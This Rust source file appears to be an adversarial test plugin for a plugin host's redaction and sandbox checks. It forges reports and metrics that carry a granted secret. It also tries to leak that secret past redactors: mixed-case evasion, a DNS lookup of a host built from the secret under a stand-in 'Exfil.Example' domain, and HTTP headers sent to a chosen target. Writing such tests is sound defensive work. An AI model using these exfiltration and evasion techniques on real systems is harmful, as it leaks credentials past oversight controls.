//! Modes that attack what the host does with a plugin's text rather than the sandbox:
//! `forge` reports whatever the config says (summary, details, metrics with any name,
//! unit, range and value, a log line, stdout), with `{secret}` in any of them replaced by
//! the value of the granted secret named by `secret`; `leak` tries to get that value out
//! through the host's own messages (a secret *named* like the value, a name lookup of a
//! host built from it, in mixed case).

use runbox_plugin_sdk::{Level, Metric, Report, Status, host, log};
use serde::Deserialize;
use std::io::Write;
use std::net::ToSocketAddrs;

#[derive(Deserialize, Default)]
#[serde(default)]
struct Forge {
    status: String,
    summary: String,
    details: Vec<String>,
    metrics: Vec<ForgedMetric>,
    log: String,
    stdout: String,
    secret: String,
    /// Bytes of `x` put before `{secret}` where `{pad}` appears, to make a cap fall inside it.
    pad: usize,
    /// `cut`: a secret name to ask for, and an HTTP GET to `target` with `headers`.
    ask: String,
    target: String,
    headers: Vec<String>,
    /// Repeat the summary this many times.
    repeat: usize,
}

#[derive(Deserialize, Default)]
#[serde(default)]
struct ForgedMetric {
    name: String,
    value: String,
    unit: String,
    warn: Option<String>,
    crit: Option<String>,
    min: Option<String>,
    max: Option<String>,
}

pub fn run(mode: &str, config: &str) -> Result<Report, String> {
    let forge: Forge = serde_json::from_str(config).map_err(|err| err.to_string())?;
    let value = if forge.secret.is_empty() {
        String::new()
    } else {
        host::secret(&forge.secret).ok_or("secret not granted")?
    };
    let pad = "x".repeat(forge.pad);
    let fill = |text: &str| text.replace("{pad}", &pad).replace("{secret}", &value);
    match mode {
        "forge" => {
            if !forge.log.is_empty() {
                log(Level::Warn, &fill(&forge.log));
            }
            if !forge.stdout.is_empty() {
                let mut stdout = std::io::stdout();
                let _ = stdout.write_all(fill(&forge.stdout).as_bytes());
                let _ = stdout.flush();
            }
            let status = match forge.status.as_str() {
                "warning" => Status::Warning,
                "critical" => Status::Critical,
                "unknown" => Status::Unknown,
                _ => Status::Ok,
            };
            let mut report = Report::new(status, fill(&forge.summary).repeat(forge.repeat.max(1)));
            for line in &forge.details {
                report = report.detail(fill(line));
            }
            let number = |text: &str| text.parse::<f64>().unwrap_or(0.0);
            for metric in &forge.metrics {
                report.metrics.push(Metric {
                    name: fill(&metric.name),
                    value: number(&metric.value),
                    unit: fill(&metric.unit),
                    warn: metric.warn.as_deref().map(fill),
                    crit: metric.crit.as_deref().map(fill),
                    min: metric.min.as_deref().map(number),
                    max: metric.max.as_deref().map(number),
                });
            }
            Ok(report)
        }
        "leak" => {
            // A secret named like the value, in mixed case so a case-folding host
            // message no longer matches a literal redactor.
            let _ = host::secret(&value);
            let _ = host::secret(&mixed_case(&value));
            let host_name = format!("{}.Exfil.Example", mixed_case(&value));
            let lookup = (host_name.as_str(), 443)
                .to_socket_addrs()
                .map(|_| ())
                .map_err(|e| e.to_string());
            Ok(Report::new(Status::Critical, format!("tried; lookup: {lookup:?}")))
        }
        "cut" => {
            let asked = host::secret(&fill(&forge.ask)).is_some();
            let config = crate::Config {
                mode: "http".into(),
                target: forge.target.clone(),
                size: 0,
                method: "GET".into(),
                headers: forge.headers.iter().map(|h| fill(h)).collect(),
                body: String::new(),
                server_name: String::new(),
            };
            let http = if forge.target.is_empty() {
                String::new()
            } else {
                crate::http_request(&config)
            };
            Ok(Report::new(Status::Critical, format!("asked {asked}; {http}")))
        }
        other => Err(format!("unknown mode {other}")),
    }
}

fn mixed_case(text: &str) -> String {
    text.chars()
        .enumerate()
        .map(|(i, c)| {
            if i % 2 == 0 {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect()
}
